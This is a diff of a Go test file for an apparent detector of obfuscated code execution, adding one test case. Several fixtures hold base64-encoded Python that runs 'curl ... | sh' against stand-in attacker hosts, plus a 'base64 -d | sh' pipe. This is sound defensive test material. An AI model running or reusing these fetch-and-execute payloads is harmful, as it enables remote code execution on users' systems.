@@ -180,6 +180,7 @@ func TestRules(t *testing.T) {
 		{"decoded payload with an expansion", tree("```\necho ...$K | base64 -d | sh\n```\n"), "obfuscated-exec", "attack-example"},
 		{"decoded variable changed after", tree("```\np = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlL2EgfCBzaCcp'\np += 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9jZG4uYmFkaG9zdC5uZXQvYSB8IHNoJyk='\nexec(base64.b64decode(p))\n```\n"), "obfuscated-exec", "attack-example"},
 		{"decoded variable changed on its line", tree("```\np = '...'; p = k\nexec(base64.b64decode(p))\n```\n"), "obfuscated-exec", "attack-example"},
+		{"decoded variable joined to more", tree("```\np = '...' + k\nexec(base64.b64decode(p))\n```\n"), "obfuscated-exec", "attack-example"},
 		{"decoder redefined", tree("```\nbase64.b64decode = lambda s: k\nexec(base64.b64decode('...'))\n```\n"), "obfuscated-exec", "attack-example"},
 		{"elided payload in a script", tree("", "run.py", "exec(base64.b64decode('...'))\n"), "obfuscated-exec", "attack-example"},
 		{"decoded payload in an unknown variable", tree("```\nexec(base64.b64decode(p))\n```\n"), "obfuscated-exec", "attack-example"},
